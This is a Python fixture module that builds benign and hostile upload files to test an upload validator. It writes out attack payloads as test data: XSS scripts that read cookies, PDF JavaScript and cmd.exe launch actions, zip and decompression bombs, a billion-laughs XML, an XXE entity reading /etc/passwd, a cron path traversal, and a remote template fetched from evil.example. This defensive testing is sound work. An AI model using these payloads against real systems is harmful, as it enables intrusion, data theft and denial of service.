"""Files that people send and files that attackers send, each made here from nothing: no fixture of unknown origin.

``GOOD`` and ``HOSTILE`` list them with the name under which they are sent and, for the hostile ones, a word of the
reason that the person must read.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache

import pillow_heif
from PIL import ExifTags, Image

GPS_LATITUDE = (23.0, 2.0, 12.5)
TAKEN = "2026:03:17 15:20:30"
CAMERA = "GovTrackTestCamera"
RED, GREEN, BLUE = (200, 20, 20), (20, 200, 20), (20, 20, 200)


# Photos


def picture(width: int = 60, height: int = 40) -> Image.Image:
    """Left third red, the rest green, the lower right corner blue: shows how it was turned."""
    image = Image.new("RGB", (width, height), GREEN)
    image.paste(RED, (0, 0, width // 3, height))
    image.paste(BLUE, (2 * width // 3, height // 2, width, height))
    return image


def exif(orientation: int = 1, taken: str = TAKEN, offset: str = "") -> Image.Exif:
    """What a phone writes: camera, orientation, time, and where it was."""
    tags = Image.Exif()
    tags[ExifTags.Base.Make] = CAMERA
    tags[ExifTags.Base.Orientation] = orientation
    details = tags.get_ifd(ExifTags.IFD.Exif)
    details[ExifTags.Base.DateTimeOriginal] = taken
    if offset:
        details[ExifTags.Base.OffsetTimeOriginal] = offset
    place = tags.get_ifd(ExifTags.IFD.GPSInfo)
    place[ExifTags.GPS.GPSLatitudeRef] = "N"
    place[ExifTags.GPS.GPSLatitude] = GPS_LATITUDE
    return tags


def _saved(image: Image.Image, format_: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, format_, **options)
    return out.getvalue()


def jpeg(orientation: int = 1, taken: str = TAKEN, offset: str = "", size: tuple[int, int] = (60, 40)) -> bytes:
    """A JPEG with everything that must go."""
    return _saved(picture(*size), "JPEG", quality=95, exif=exif(orientation, taken, offset), comment=b"secret comment")


def plain_jpeg() -> bytes:
    """A JPEG without any metadata, as a page that reduced it sends it."""
    return _saved(picture(), "JPEG", quality=90)


def png() -> bytes:
    """A PNG with a transparent background and a text chunk."""
    image = picture().convert("RGBA")
    image.putalpha(Image.new("L", image.size, 128))
    return _saved(image, "PNG")


def webp() -> bytes:
    """A WebP."""
    return _saved(picture(), "WEBP", exif=exif())


def heic() -> bytes:
    """What an iPhone keeps."""
    out = io.BytesIO()
    pillow_heif.from_pillow(picture(64, 64)).save(out, exif=exif().tobytes())
    return out.getvalue()


def heic_of_ten_bits() -> bytes:
    """What an iPhone keeps of a photo in HDR."""
    pixels = struct.pack("<HHH", 60_000, 20_000, 100) * (64 * 64)
    out = io.BytesIO()
    pillow_heif.from_bytes(mode="RGB;16", size=(64, 64), data=pixels).save(out)
    return out.getvalue()


def jpeg_with_zip() -> bytes:
    """A photo that is an archive too: accepted, for only its pixels are ever served."""
    return plain_jpeg() + zipped({"evil.html": b"<script>alert(1)</script>"})


def jpeg_with_script() -> bytes:
    """A photo with a page in its comment and behind its end."""
    page = b"<html><script>alert(document.cookie)</script></html>"
    return _saved(picture(), "JPEG", comment=page) + page


def png_claiming(width: int, height: int) -> bytes:
    """A small PNG file whose header says that it is huge."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    packed = zlib.compress(b"\x00" * 100_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def jpeg_claiming(width: int, height: int) -> bytes:
    """A JPEG whose frame header was changed."""
    content = bytearray(plain_jpeg())
    at = content.index(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(content)


# PDF


def pdf(*objects: bytes, trailer: bytes = b"", before: bytes = b"", after: bytes = b"", end: bool = True) -> bytes:
    """A one-page PDF with further objects (numbered from 4), extra keys of the trailer, and what stands around it."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *objects,
    ]
    out = bytearray(before + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n" % (len(bodies) + 1, trailer, xref)
    return bytes(out) + (b"%%EOF\n" if end else b"") + after


def stream(dictionary: bytes, content: bytes) -> bytes:
    """A stream object."""
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(content), content)


def object_stream(content: bytes, extra: bytes = b"/Filter /FlateDecode", kind: bytes = b"/ObjStm") -> bytes:
    """An object stream, compressed."""
    return stream(b"/Type %s /N 1 /First 4 %s" % (kind, extra), zlib.compress(content, 9))


def _endless() -> bytes:
    """A stream that unpacks twice, from kilobytes to megabytes and from these to gigabytes."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    megabyte = packer.compress(b"\x00" * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    return zlib.compress(head + megabyte * 4_000, 9)


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


# docx and xlsx

_CONTENT_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def zipped(parts: Mapping[str, bytes]) -> bytes:
    """A deflated archive of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 3, 1, 8, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def content_types(part: str, declared: str, more: str = "") -> bytes:
    """[Content_Types].xml that names the main part."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{_CONTENT_TYPES}">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{part}" ContentType="{declared}"/>{more}</Types>'
    ).encode()


def relationships(*entries: tuple[str, str]) -> bytes:
    """Relationships to the outside: (type, target)."""
    rows = "".join(
        f'<Relationship Id="r{n}" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(entries)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{_RELATIONSHIPS}">{rows}</Relationships>'.encode()


def docx_parts(**changed: bytes) -> dict[str, bytes]:
    """The parts of a docx; ``types``, ``document`` and ``rels`` may be changed."""
    body = b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
    return {
        "[Content_Types].xml": changed.get("types", content_types("word/document.xml", _WORD)),
        "_rels/.rels": relationships(),
        "word/document.xml": changed.get("document", body),
        "word/_rels/document.xml.rels": changed.get("rels", relationships(("hyperlink", "https://example.org/"))),
    }


def docx(more: Mapping[str, bytes] | None = None, **changed: bytes) -> bytes:
    """A docx with further parts."""
    return zipped(docx_parts(**changed) | dict(more or {}))


def xlsx() -> bytes:
    """An xlsx."""
    body = b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    return zipped({"[Content_Types].xml": content_types("xl/workbook.xml", _SHEET), "xl/workbook.xml": body})


def docx_lying_about_sizes() -> bytes:
    """A part that is 300 times larger than its headers say."""
    honest = docx({"word/media/a.bin": b"\x00" * 3_000_000})
    return honest.replace(struct.pack("<I", 3_000_000), struct.pack("<I", 10_000))


def docx_encrypted() -> bytes:
    """The flag of encryption set on every part."""
    content = bytearray(docx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(signature, at + 4)
    return bytes(content)


def docx_with_overlap() -> bytes:
    """Two entries of the directory that share the same bytes, as non-recursive zip bombs do."""
    plain = docx({"word/media/one.bin": b"1" * 50_000, "word/media/two.bin": b"2" * 50_000})
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        one, two = (archive.getinfo(f"word/media/{name}.bin").header_offset for name in ("one", "two"))
    at = plain.rindex(b"word/media/two.bin") - 4
    return plain[:at] + plain[at:].replace(struct.pack("<I", two), struct.pack("<I", one), 1)


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><Types>&c;</Types>'
)
OUTSIDE_ENTITY = b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><Types>&x;</Types>'


@dataclass(frozen=True)
class Sample:
    """A file as somebody sends it; ``reason`` is part of what the person reads, "" where it is accepted."""

    name: str
    make: Callable[[], bytes]
    reason: str = ""
    kind: str = ""

    @property
    def content(self) -> bytes:
        """The bytes, made once."""
        return _made(self.make)


@cache
def _made(make: Callable[[], bytes]) -> bytes:
    return make()


GOOD: dict[str, Sample] = {
    "jpeg": Sample("路口积水.jpg", jpeg, kind="photo"),
    "jpeg-capital": Sample("IMG_0001.JPEG", jpeg, kind="photo"),
    "no-extension": Sample("blob", plain_jpeg, kind="photo"),
    "png": Sample("截图.png", png, kind="photo"),
    "webp": Sample("a.webp", webp, kind="photo"),
    "heic": Sample("IMG_1.HEIC", heic, kind="photo"),
    "photo-and-archive": Sample("a.jpg", jpeg_with_zip, kind="photo"),
    "photo-and-script": Sample("a.jpg", jpeg_with_script, kind="photo"),
    "pdf": Sample("合同.pdf", pdf, kind="document"),
    "pdf-with-compressed-objects": Sample(
        "a.pdf", lambda: pdf(object_stream(b"5 0 << /Type /Font >>")), kind="document"
    ),
    "pdf-with-a-word-in-its-text": Sample("a.pdf", lambda: pdf(stream(b"", b"BT (JavaScript) Tj ET")), kind="document"),
    "pdf-that-opens-at-a-page": Sample("a.pdf", lambda: pdf(b"<< /OpenAction [3 0 R /Fit] >>"), kind="document"),
    "pdf-that-goes-to-a-page": Sample(
        "a.pdf", lambda: pdf(b"<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>"), kind="document"
    ),
    "pdf-with-a-link": Sample(
        "a.pdf", lambda: pdf(b"<< /Annots [<< /A << /S /URI /URI (https://example.org/) >> >>] >>"), kind="document"
    ),
    "pdf-with-a-bad-table": Sample("a.pdf", lambda: pdf().replace(b"startxref\n", b"startxref\n9"), kind="document"),
    "pdf-ended-by-spaces": Sample("a.pdf", lambda: pdf(after=b"\r\n \x00\n"), kind="document"),
    "photo-as-program": Sample("a.exe", plain_jpeg, kind="photo"),
    "photo-behind-direction-mark": Sample("a\u202egpj.exe", plain_jpeg, kind="photo"),
    "photo-as-page": Sample("a.jpg.html", plain_jpeg, kind="photo"),
    "jpeg-as-png": Sample("a.png", plain_jpeg, kind="photo"),
    "pdf-as-photo": Sample("a.jpg", pdf, kind="document"),
    "xlsx-as-docx": Sample("a.docx", xlsx, kind="document"),
    "docx-as-archive": Sample("a.zip", docx, kind="document"),
    "jpeg-as-heic": Sample("IMG_2.HEIC", jpeg, kind="photo"),
    "png-as-jpeg": Sample("截图.jpg", png, kind="photo"),
    "heic-as-jpeg": Sample("IMG_3.jpg", heic, kind="photo"),
    "webp-as-jpeg": Sample("a.jpg", webp, kind="photo"),
    "heic-of-ten-bits": Sample("IMG_4.HEIC", heic_of_ten_bits, kind="photo"),
    "pdf-behind-mark": Sample("a.pdf", lambda: pdf(before=b"\xef\xbb\xbf"), kind="document"),
    "pdf-behind-lines": Sample("a.pdf", lambda: pdf(before=b"\r\n@PJL JOB\r\n" * 70), kind="document"),
    "docx": Sample("说明.docx", docx, kind="document"),
    "docx-with-picture": Sample("a.docx", lambda: docx({"word/media/image1.png": png()}), kind="document"),
    "xlsx": Sample("台账.xlsx", xlsx, kind="document"),
}

_NOT_ACCEPTED, _DAMAGED, _PIXELS = "不支持这种文件", "不完整或已损坏", "万像素"
_ACTIVE, _LOCKED, _MORE, _HIDDEN = "脚本、附件或自动执行", "密码", "前后还有别的内容", "无法检查"
_MACRO, _BOMB, _FETCHES = "宏或内嵌程序", "解压后过大", "外部加载"

HOSTILE: dict[str, Sample] = {
    "empty": Sample("a.jpg", bytes, "空的"),
    "svg": Sample("a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', _NOT_ACCEPTED),
    "svg-as-photo": Sample("a.png", lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>', _NOT_ACCEPTED),
    "html": Sample("a.html", lambda: b"<!doctype html><script>alert(1)</script>", _NOT_ACCEPTED),
    "html-as-photo": Sample("a.jpg", lambda: b"<html><script>alert(1)</script></html>", _NOT_ACCEPTED),
    "text": Sample("a.pdf", lambda: b"just words", _NOT_ACCEPTED),
    "gif": Sample("a.gif", lambda: _saved(picture(), "GIF"), _NOT_ACCEPTED),
    "gif-as-photo": Sample("a.jpg", lambda: _saved(picture(), "GIF"), _NOT_ACCEPTED),
    "tiff": Sample("a.tiff", lambda: _saved(picture(), "TIFF"), _NOT_ACCEPTED),
    "program": Sample("a.exe", lambda: b"MZ\x90\x00" + b"\x00" * 500, _NOT_ACCEPTED),
    "program-as-photo": Sample("照片.jpg", lambda: b"MZ\x90\x00" + b"\x00" * 500, _NOT_ACCEPTED),
    "old-word": Sample("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, _NOT_ACCEPTED),
    "jpeg-cut": Sample("a.jpg", lambda: jpeg(size=(600, 400))[:-3000], _DAMAGED),
    "jpeg-head-only": Sample("a.jpg", lambda: jpeg()[:200], _DAMAGED),
    "png-cut": Sample("a.png", lambda: png()[:-40], _DAMAGED),
    "webp-cut": Sample("a.webp", lambda: webp()[:-60], _DAMAGED),
    "heic-cut": Sample("a.heic", lambda: heic()[:-200], _DAMAGED),
    "png-bomb": Sample("a.png", lambda: png_claiming(50_000, 50_000), _PIXELS),
    "png-strip": Sample("a.png", lambda: png_claiming(1, 60_000), _PIXELS),
    "png-just-too-large": Sample("a.png", lambda: png_claiming(8_001, 8_001), _PIXELS),
    "jpeg-bomb": Sample("a.jpg", lambda: jpeg_claiming(65_000, 65_000), _PIXELS),
    "pdf-cut": Sample("a.pdf", lambda: pdf(end=False), _DAMAGED),
    "pdf-without-version": Sample("a.pdf", lambda: b"%PDF-\n%%EOF", _DAMAGED),
    "pdf-behind-much": Sample("a.pdf", lambda: pdf(before=b" " * 1025), _NOT_ACCEPTED),
    "pdf-behind-program": Sample("a.pdf", lambda: pdf(before=b"MZ\x90\x00"), _NOT_ACCEPTED),
    "pdf-behind-something": Sample("a.pdf", lambda: pdf(before=b"<script>1</script>\n"), _NOT_ACCEPTED),
    "pdf-before-archive": Sample("a.pdf", lambda: pdf(after=zipped({"a.html": b"x"})), _MORE),
    "pdf-before-page": Sample("a.pdf", lambda: pdf(after=b"<script>1</script>"), _MORE),
    "pdf-script": Sample("a.pdf", lambda: pdf(SCRIPT), _ACTIVE),
    "pdf-script-escaped": Sample("a.pdf", lambda: pdf(b"<< /S /Java#53cript /JS (1) >>"), _ACTIVE),
    "pdf-script-compressed": Sample("a.pdf", lambda: pdf(object_stream(b"5 0 " + SCRIPT)), _ACTIVE),
    "pdf-script-compressed-escaped": Sample(
        "a.pdf", lambda: pdf(object_stream(b"5 0 " + SCRIPT, kind=b"/Obj#53tm")), _ACTIVE
    ),
    "pdf-script-behind-long-dictionary": Sample(
        "a.pdf",
        lambda: pdf(object_stream(b"5 0 " + SCRIPT, b"/Filter /FlateDecode /Pad (%s)" % (b"a" * 9000))),
        _ACTIVE,
    ),
    "pdf-script-behind-fake-object": Sample(
        "a.pdf", lambda: pdf(object_stream(b"5 0 " + SCRIPT, b"/Filter /FlateDecode /Pad (1 0 obj endstream)")), _ACTIVE
    ),
    "pdf-script-behind-fake-stream": Sample(
        "a.pdf", lambda: pdf(object_stream(b"5 0 " + SCRIPT, b"/Filter /FlateDecode /Pad (>> stream\n)")), _ACTIVE
    ),
    "pdf-script-past-the-table": Sample("a.pdf", lambda: pdf(trailer=object_stream(b"5 0 " + SCRIPT)), _HIDDEN),
    "pdf-opens-an-address": Sample("a.pdf", lambda: pdf(b"<< /OpenAction << /S /URI /URI (https://a) >> >>"), _ACTIVE),
    "pdf-opens-an-address-of-an-object": Sample(
        "a.pdf", lambda: pdf(b"<< /OpenAction 5 0 R >>", b"<< /S /URI /URI (https://a) >>"), _ACTIVE
    ),
    "pdf-opens-an-address-escaped": Sample(
        "a.pdf", lambda: pdf(b"<< /Open#41ction << /S /URI /URI (https://a) >> >>"), _ACTIVE
    ),
    "pdf-opens-an-address-by-and-by": Sample(
        "a.pdf",
        lambda: pdf(b"<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /Next << /S /URI >> >>] >> >>"),
        _ACTIVE,
    ),
    "pdf-opens-a-ring": Sample(
        "a.pdf", lambda: pdf(b"<< /OpenAction 5 0 R >>", b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>"), _ACTIVE
    ),
    "pdf-prints-itself": Sample("a.pdf", lambda: pdf(b"<< /OpenAction << /S /Named /N /Print >> >>"), _ACTIVE),
    "pdf-page-opens-an-address": Sample(
        "a.pdf", lambda: pdf(b"<< /Annots [<< /AA << /PO << /S /URI /URI (https://a) >> >> >>] >>"), _ACTIVE
    ),
    "pdf-unpacks-to-gigabytes": Sample(
        "a.pdf",
        lambda: pdf(stream(b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", _endless())),
        _HIDDEN,
    ),
    "pdf-script-behind-comment": Sample(
        "a.pdf", lambda: pdf(object_stream(b"5 0 " + SCRIPT).replace(b">>\nstream", b">> %x\nstream")), _ACTIVE
    ),
    "pdf-script-behind-spaces": Sample(
        "a.pdf",
        lambda: pdf(object_stream(b"5 0 " + SCRIPT).replace(b">>\nstream", b">>" + b" " * 900 + b"stream")),
        _ACTIVE,
    ),
    "pdf-launch": Sample("a.pdf", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"), _ACTIVE),
    "pdf-attachment": Sample("a.pdf", lambda: pdf(stream(b"/Type /EmbeddedFile", b"MZ")), _ACTIVE),
    "pdf-form": Sample("a.pdf", lambda: pdf(b"<< /XFA [] >>"), _ACTIVE),
    "pdf-locked": Sample("a.pdf", lambda: pdf(trailer=b"/Encrypt 4 0 R"), _LOCKED),
    "pdf-bomb": Sample("a.pdf", lambda: pdf(object_stream(b" " * 40_000_000)), _HIDDEN),
    "pdf-odd-filter": Sample(
        "a.pdf", lambda: pdf(object_stream(SCRIPT, b"/Filter [/ASCII85Decode /FlateDecode]")), _HIDDEN
    ),
    "pdf-broken-objects": Sample(
        "a.pdf", lambda: pdf(stream(b"/Type /ObjStm /Filter /FlateDecode", b"not deflated")), _HIDDEN
    ),
    "docx-cut": Sample("a.docx", lambda: docx()[:-30], _DAMAGED),
    "docx-behind-something": Sample("a.docx", lambda: b"MZ" + docx(), _NOT_ACCEPTED),
    "docx-before-something": Sample("a.docx", lambda: docx() + b"<script>1</script>", _MORE),
    "docx-behind-archive": Sample("a.docx", lambda: zipped({"a": b"1"}) + docx(), _MORE),
    "archive": Sample("a.docx", lambda: zipped({"a.html": b"<script>"}), _NOT_ACCEPTED),
    "docx-without-body": Sample(
        "a.docx", lambda: zipped({"[Content_Types].xml": content_types("word/document.xml", _WORD)}), _NOT_ACCEPTED
    ),
    "docx-with-other-body": Sample("a.docx", lambda: docx(document=b"<html/>"), _NOT_ACCEPTED),
    "docx-with-macros": Sample("a.docx", lambda: docx({"word/vbaProject.bin": b"x"}), _MACRO),
    "docm": Sample(
        "a.docx",
        lambda: docx(
            types=content_types("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
        ),
        _MACRO,
    ),
    "docx-with-object": Sample("a.docx", lambda: docx({"word/embeddings/oleObject1.bin": b"x"}), _MACRO),
    "docx-with-program": Sample("a.docx", lambda: docx({"word/media/run.exe": b"MZ"}), _MACRO),
    "docx-fetching-template": Sample(
        "a.docx", lambda: docx(rels=relationships(("attachedTemplate", "https://evil.example/a.dotm"))), _FETCHES
    ),
    "docx-fetching-picture": Sample(
        "a.docx", lambda: docx(rels=relationships(("image", "http://evil.example/a.png"))), _FETCHES
    ),
    "docx-script-link": Sample(
        "a.docx", lambda: docx(rels=relationships(("hyperlink", "javascript:alert(1)"))), _FETCHES
    ),
    "docx-bomb": Sample("a.docx", lambda: docx({"word/media/a.bin": b"\x00" * 130_000_000}), _BOMB),
    "docx-ratio": Sample("a.docx", lambda: docx({"word/media/a.bin": b"\x00" * 20_000_000}), _BOMB),
    "docx-many-parts": Sample("a.docx", lambda: docx({f"word/a{n}": b"" for n in range(2_100)}), _BOMB),
    "docx-lying": Sample("a.docx", docx_lying_about_sizes, _DAMAGED),
    "docx-overlap": Sample("a.docx", docx_with_overlap, _DAMAGED),
    "docx-locked": Sample("a.docx", docx_encrypted, _LOCKED),
    "docx-path": Sample("a.docx", lambda: docx({"../../etc/cron.d/x": b"x"}), _DAMAGED),
    "docx-laughs": Sample("a.docx", lambda: docx(types=LAUGHS), _DAMAGED),
    "docx-entity": Sample("a.docx", lambda: docx(types=OUTSIDE_ENTITY), _DAMAGED),
    "docx-entity-in-body": Sample("a.docx", lambda: docx(document=OUTSIDE_ENTITY), _DAMAGED),
    "docx-not-xml": Sample("a.docx", lambda: docx(types=b"not xml"), _DAMAGED),
}
